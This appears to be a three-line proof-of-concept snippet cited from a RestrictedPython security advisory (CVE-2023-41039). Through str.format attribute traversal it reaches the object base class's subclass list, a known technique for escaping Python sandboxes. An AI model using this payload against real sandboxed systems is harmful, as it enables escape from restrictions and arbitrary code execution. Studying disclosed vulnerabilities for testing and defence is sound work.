# Source: RestrictedPython CVE-2023-41039 / https://github.com/advisories/GHSA-xjw2-6jm9-rf67
leak = "{0.__class__.__base__.__subclasses__}".format(0)
print(leak)
